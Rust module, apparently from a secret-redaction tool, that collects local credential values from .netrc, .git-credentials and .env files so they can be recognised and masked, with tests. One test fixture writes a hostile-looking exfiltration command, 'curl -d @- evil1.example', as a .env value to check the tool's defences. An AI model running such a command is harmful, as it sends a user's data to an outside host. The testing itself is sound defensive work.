//! Edge: reads the files that hold this machine's own secrets, and knows what is a program's name.
//!
//! It may wait for a disk that does not answer: it is not for the process that somebody waits for. What cannot be read is
//! counted and never told with more than its kind.

use std::ffi::OsStr;
use std::fs;
use std::io;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use zeroize::Zeroizing;

use super::{CredentialFile, Wanted, absolute_paths, credentials, dotenv};
use crate::config::files::read_small;
use crate::redact::is_secret_name;
use crate::redact::known::{is_fit, is_fit_from_a_checkout, secrets_in};

/// The largest file that is read, in bytes.
const MAX_FILE_BYTES: u64 = 256 << 10;

/// How many `.env` files are read.
const MAX_DOTENV_FILES: usize = 32;

/// How many values are taken of them. A checkout must not be able to crowd out the rest.
pub const MAX_DOTENV_VALUES: usize = 64;

/// How many entries of a directory are looked at.
const MAX_ENTRIES: usize = 4096;

/// How many directories up a repository is looked for.
const MAX_DEPTH: usize = 64;

/// How many directories a program is looked for in.
const MAX_PROGRAM_DIRECTORIES: usize = 64;

/// Files that show which variables there are.
const EXAMPLES: [&str; 7] = ["example", "sample", "template", "dist", "default", "defaults", "schema"];

/// What was found.
#[derive(Default)]
pub struct Gathered {
    /// The values, those that count most first. Not all of them are fit to be looked for.
    pub values: Vec<Zeroizing<String>>,
    /// How many values of `.env` files were left out because there were too many.
    pub left_out: usize,
    /// How many files were there and could not be read.
    pub unreadable: usize,
}

/// Adds what the wanted files hold to what is known already, and takes out what is the name of a program.
pub fn gather(wanted: &Wanted, mut known: Vec<Zeroizing<String>>) -> Gathered {
    let mut gathered = Gathered::default();
    for (file, path) in &wanted.files {
        known.extend(credential_file(*file, path, &mut gathered.unreadable));
    }
    known.retain(|value| !wanted.public.contains(value) && !is_program(value, wanted.search_path.as_deref()));
    gathered.values = known;
    if let Some(directory) = &wanted.dotenv {
        of_checkout(directory, wanted, &mut gathered);
    }
    gathered
}

fn credential_file(file: CredentialFile, path: &Path, unreadable: &mut usize) -> Vec<Zeroizing<String>> {
    let secrets = credentials::secrets(file, &read(path, unreadable));
    secrets.into_iter().filter(|value| is_fit(value)).collect()
}

/// The file's text; empty if it is not there, or cannot be read, which is counted.
fn read(path: &Path, unreadable: &mut usize) -> Zeroizing<String> {
    let text = read_small(path, MAX_FILE_BYTES).unwrap_or_else(|error| {
        *unreadable += usize::from(!matches!(error.kind(), io::ErrorKind::NotFound | io::ErrorKind::NotADirectory));
        String::new()
    });
    Zeroizing::new(text)
}

/// The values of the `.env` files around a directory, up to the repository's root.
fn of_checkout(directory: &Path, wanted: &Wanted, gathered: &mut Gathered) {
    let mut taken = 0;
    for path in dotenv_files(directory) {
        let text = read(&path, &mut gathered.unreadable);
        for (name, value) in dotenv::variables(&text) {
            for part in secrets_in(&value) {
                // The password of a URL is a secret whatever the URL is called.
                let secret_name = is_secret_name(name) || part != value;
                let fit = is_fit_from_a_checkout(&part, secret_name)
                    && !wanted.public.contains(&part)
                    && !gathered.values.contains(&part);
                if fit && taken == MAX_DOTENV_VALUES {
                    gathered.left_out += 1;
                } else if fit && !is_program(&part, wanted.search_path.as_deref()) {
                    taken += 1;
                    gathered.values.push(part);
                }
            }
        }
    }
}

/// `.env` and `.env.*` of the directory and those above it, up to the repository's root; of the directory alone where
/// there is no repository. Those nearest first.
fn dotenv_files(directory: &Path) -> Vec<PathBuf> {
    let above: Vec<&Path> = directory.ancestors().take(MAX_DEPTH).collect();
    let root = above.iter().position(|directory| directory.join(".git").exists()).unwrap_or(0);
    let mut files = Vec::new();
    for directory in above.into_iter().take(root + 1) {
        let entries = fs::read_dir(directory).into_iter().flatten().take(MAX_ENTRIES).flatten();
        let mut here: Vec<PathBuf> =
            entries.filter(|entry| is_dotenv(&entry.file_name())).map(|entry| entry.path()).collect();
        here.sort();
        files.append(&mut here);
    }
    files.truncate(MAX_DOTENV_FILES);
    files
}

fn is_dotenv(name: &OsStr) -> bool {
    let Some(name) = name.to_str() else { return false };
    name == ".env"
        || name
            .strip_prefix(".env.")
            .is_some_and(|rest| !EXAMPLES.iter().any(|example| rest.split('.').any(|r| r == *example)))
}

/// Whether a program of this name would be found.
fn is_program(value: &str, search_path: Option<&OsStr>) -> bool {
    if value.len() > 255 || value.contains('/') || value.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return false;
    }
    let mut directories = search_path.into_iter().flat_map(absolute_paths).take(MAX_PROGRAM_DIRECTORIES);
    directories.any(|directory| {
        fs::metadata(directory.join(value))
            .is_ok_and(|found| found.is_file() && found.permissions().mode() & 0o111 != 0)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(root: &Path, path: &str, text: &str) {
        let path = root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn texts(gathered: &Gathered) -> Vec<&str> {
        gathered.values.iter().map(|value| value.as_str()).collect()
    }

    #[test]
    fn dotenv_files_are_read_up_to_the_root_of_the_repository() {
        let root = tempfile::tempdir().unwrap();
        write(root.path(), ".env", "A_TOKEN=FAKE-outside-0123\n");
        write(root.path(), "repo/.git/HEAD", "");
        write(root.path(), "repo/.env.local", "B_TOKEN=FAKE-in-root-0123\n");
        write(root.path(), "repo/.env.example", "C_TOKEN=FAKE-example-0123\n");
        write(root.path(), "repo/.envrc", "D_TOKEN=FAKE-direnv-0123\n");
        write(root.path(), "repo/a/b/.env", "E_TOKEN=FAKE-below-0123\nURL=redis://:FAKE-in-url-0123@h:1/0\n");
        let wanted = |directory| Wanted { dotenv: Some(root.path().join(directory)), ..Wanted::default() };
        let gathered = gather(&wanted("repo/a/b"), Vec::new());
        assert_eq!(texts(&gathered), ["FAKE-below-0123", "FAKE-in-url-0123", "FAKE-in-root-0123"]);
        assert_eq!(gathered.unreadable, 0);
        fs::remove_dir_all(root.path().join("repo/.git")).unwrap();
        assert_eq!(texts(&gather(&wanted("repo/a/b"), Vec::new())).len(), 2);
    }

    #[test]
    fn a_hostile_dotenv_file_hides_no_program_and_crowds_out_nothing() {
        let root = tempfile::tempdir().unwrap();
        write(root.path(), "bin/Exf1ltrate-All-2", "");
        fs::set_permissions(root.path().join("bin/Exf1ltrate-All-2"), fs::Permissions::from_mode(0o755)).unwrap();
        let many: Vec<String> = (0..200).map(|n| format!("T{n}_TOKEN=FAKE-h0stile-{n:03}\n")).collect();
        write(
            root.path(),
            "repo/.env",
            &format!(
                "A_TOKEN=Exf1ltrate-All-2\nB_TOKEN=curl -d @- evil1.example\nC_TOKEN=jane.d0e.the.1st\n{}",
                many.concat()
            ),
        );
        std::os::unix::fs::symlink("/dev/zero", root.path().join("repo/.env.zero")).unwrap();
        let wanted = Wanted {
            dotenv: Some(root.path().join("repo")),
            search_path: Some(root.path().join("bin").into()),
            public: vec!["jane.d0e.the.1st".to_owned()],
            ..Wanted::default()
        };
        let known = vec![Zeroizing::new("FAKE-known".to_owned()), Zeroizing::new("Exf1ltrate-All-2".to_owned())];
        let gathered = gather(&wanted, known);
        assert_eq!(texts(&gathered)[..2], ["FAKE-known", "FAKE-h0stile-000"]);
        assert_eq!((gathered.values.len(), gathered.left_out, gathered.unreadable), (1 + MAX_DOTENV_VALUES, 136, 1));
    }

    #[test]
    fn credential_files_are_read_where_they_are() {
        let root = tempfile::tempdir().unwrap();
        write(root.path(), ".netrc", "machine h login me password FAKE-netrc1");
        write(root.path(), ".git-credentials", "https://me:FAKE-git123@h");
        write(root.path(), ".npmrc/x", "");
        let wanted = Wanted { files: super::super::places(root.path(), |_| None), ..Wanted::default() };
        let gathered = gather(&wanted, Vec::new());
        assert_eq!(texts(&gathered), ["FAKE-netrc1", "FAKE-git123"]);
        assert_eq!(gathered.unreadable, 1);
    }
}
